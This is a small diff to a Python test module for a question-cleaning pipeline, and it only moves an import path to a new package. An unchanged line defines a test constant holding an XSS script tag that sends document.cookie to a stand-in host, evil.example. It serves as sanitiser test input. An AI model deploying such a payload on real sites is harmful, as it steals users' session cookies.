@@ -1,4 +1,4 @@
-"""Noise in a question is taken out before the question is read (pipeline/user_text.py) and recorded in the trace;
+"""Noise in a question is taken out before the question is read (pipeline/question/user_text.py) and recorded in the trace;
 suggestions are offered once each; the ingest summary is readable in a log."""
 from __future__ import annotations
 
@@ -9,7 +9,7 @@ from hypothesis import strategies as st
 
 from pipeline.access import OPERATOR
 from pipeline.guardrails.shaping import distinct
-from pipeline.user_text import clean_question
+from pipeline.question.user_text import clean_question
 from tests.conftest import corpus_pdf
 
 SCRIPT = "<script>document.location='https://evil.example/?c='+document.cookie</script> "
